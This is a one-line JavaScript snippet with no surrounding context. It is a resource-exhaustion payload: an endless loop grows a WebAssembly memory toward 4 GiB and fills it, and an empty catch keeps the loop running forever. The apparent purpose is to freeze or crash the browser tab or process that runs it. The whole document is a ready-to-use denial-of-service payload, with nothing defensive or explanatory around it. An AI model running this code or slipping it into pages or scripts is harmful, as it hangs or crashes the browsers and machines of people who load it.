m=new WebAssembly.Memory({initial:1,maximum:65536});for(;;)try{m.grow(16);new Uint8Array(m.buffer).fill(1)}catch{}
